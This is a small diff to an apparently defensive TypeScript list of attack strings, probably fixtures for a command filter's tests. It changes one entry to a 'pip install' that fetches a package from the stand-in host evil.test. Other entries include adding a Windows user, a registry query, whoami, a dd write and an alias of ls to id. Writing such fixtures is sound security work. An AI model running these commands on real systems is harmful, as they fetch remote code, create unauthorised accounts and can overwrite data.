@@ -37,7 +37,7 @@ const attacks: Readonly<Record<string, readonly string[]>> = {
     "net user bob pw /add",
     "reg query HKLM\\Software",
     "curl a.test",
-    "pip install evil",
+    "pip install https://evil.test/x",
     "whoami",
     "dd if=/dev/zero of=/tmp/x",
     "alias ls=id",
